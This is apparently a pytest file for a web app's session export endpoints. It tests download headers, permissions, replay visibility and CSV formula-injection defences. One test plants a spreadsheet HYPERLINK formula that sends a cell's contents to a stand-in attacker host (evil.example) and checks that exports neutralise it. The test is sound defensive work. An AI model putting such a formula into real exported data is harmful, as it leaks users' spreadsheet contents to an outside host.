"""Downloads as they are asked for; what is in them is tested in ``tests/server/exports``."""

import csv
import io
import re

import pytest

from server.http.exports import FORMATS
from tests.server.house import SCALE, House

HOW = "How the places came about"


@pytest.mark.parametrize("name", [*FORMATS, "comparison.csv", "chart.csv", "reflections.csv", "record.html"])
async def test_a_download_has_a_name_and_a_type(house: House, name: str) -> None:
    """As an attachment, with or without the ending in the address."""
    opened = await house.open()
    seat = await house.join(opened["code"])
    form = FORMATS[name.partition(".")[0]]
    key = seat["seatKey"] if name == "takeaway" else opened["facilitatorKey"]
    answer = await house.get(f"/api/sessions/{opened['session']}/export/{name}", key)
    wanted = f'attachment; filename="leeway-{opened["session"]}{form.ending}"'
    assert (answer.status_code, answer.headers["content-disposition"]) == (200, wanted)
    assert answer.headers["content-type"] == form.media_type
    assert answer.headers["cache-control"] == "no-store"


async def test_a_format_that_there_is_not(house: House) -> None:
    """A clear 404 that names the others."""
    opened = await house.open()
    for name in ("pdf", "pdf.csv", ".csv", "json.exe"):
        answer = await house.get(f"/api/sessions/{opened['session']}/export/{name}", opened["facilitatorKey"])
        assert (answer.status_code, answer.json()["code"]) == (404, "unknown-format")
        assert "takeaway" in answer.json()["detail"]


async def test_a_take_away_is_for_one_participant(house: House) -> None:
    """With their own key, and with no other."""
    opened = await house.open()
    seat = await house.join(opened["code"], "Joan")
    path = f"/api/sessions/{opened['session']}/export/takeaway"
    assert "Joan" in (await house.get(path, seat["seatKey"])).text
    for key in (opened["facilitatorKey"], opened["wallKey"]):
        answer = await house.get(path, key)
        assert (answer.status_code, answer.json()["code"]) == (403, "not-allowed")


async def test_how_the_places_came_about_waits_until_the_replay_is_open(house: House) -> None:
    """Facilitators have it; participants and the wall are told in words that they cannot yet."""
    opened = await house.open()
    seat = await house.join(opened["code"])
    path, keys = f"/api/sessions/{opened['session']}/export", (seat["seatKey"], opened["wallKey"])
    fac, _ = await house.tablet(opened["session"], opened["facilitatorKey"], "fac")
    await fac.done({"type": "startActivity", "activity": SCALE})
    assert "PPI" in (await house.get(f"{path}/traces.csv", opened["facilitatorKey"])).text
    assert HOW in (await house.get(f"{path}/record", opened["facilitatorKey"])).text
    for key in keys:
        closed = await house.get(f"{path}/traces", key)
        assert (closed.status_code, closed.json()["code"]) == (403, "replay-closed")
        assert HOW not in (await house.get(f"{path}/record", key)).text
    await fac.done({"type": "openReplay", "open": True})
    for key in keys:
        assert "PPI" not in (await house.get(f"{path}/traces", key)).text
    assert HOW in (await house.get(f"{path}/record", seat["seatKey"])).text


FORMULA = '=HYPERLINK("https://evil.example?"&A1;"click")'
SHEETS = [name for name, form in FORMATS.items() if form.media_type.startswith("text/csv")]


@pytest.mark.proves("G55")
async def test_no_sheet_has_a_cell_that_runs(house: House) -> None:
    """Whatever was written, wherever: in each of our CSV files no cell of words begins with what begins a formula."""
    opened = await house.open()
    session, key = opened["session"], opened["facilitatorKey"]
    seats = [await house.join(opened["code"], f"{sign}1+{sign}2") for sign in "=+-@＝"]
    fac, _ = await house.tablet(session, key, "fac")
    ann, _ = await house.tablet(session, seats[0]["seatKey"], "ann")
    card = f"{SCALE}:link-workers:employer"
    doings: dict[str, list[dict[str, object]]] = {
        SCALE: [
            {"type": "addNote", "text": FORMULA, "x": 5, "y": 5},
            {"type": "moveNote", "note": card, "x": 900, "y": 5},
            {"type": "comment", "on": card, "text": FORMULA},
            {"type": "explainNote", "note": card, "text": FORMULA},
        ],
        "for-and-against": [{"type": "addPoint", "aspect": "employer", "side": "con", "text": FORMULA}],
        "looking-back": [{"type": "reflect", "prompt": "surprised", "text": FORMULA}],
    }
    for activity, commands in doings.items():
        await fac.done({"type": "startActivity", "activity": activity})
        for command in commands:
            assert (await ann.done(command))["type"] != "refused", command
    found = 0
    for name in SHEETS:
        text = (await house.get(f"/api/sessions/{session}/export/{name}", key)).content.decode("utf-8-sig")
        cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
        assert not [cell for cell in cells if re.match(r"\s*[=+@＝＋－＠]|\s*-(?![\d.]+$)", cell)], name
        found += sum("HYPERLINK" in cell for cell in cells)
    assert found >= 4
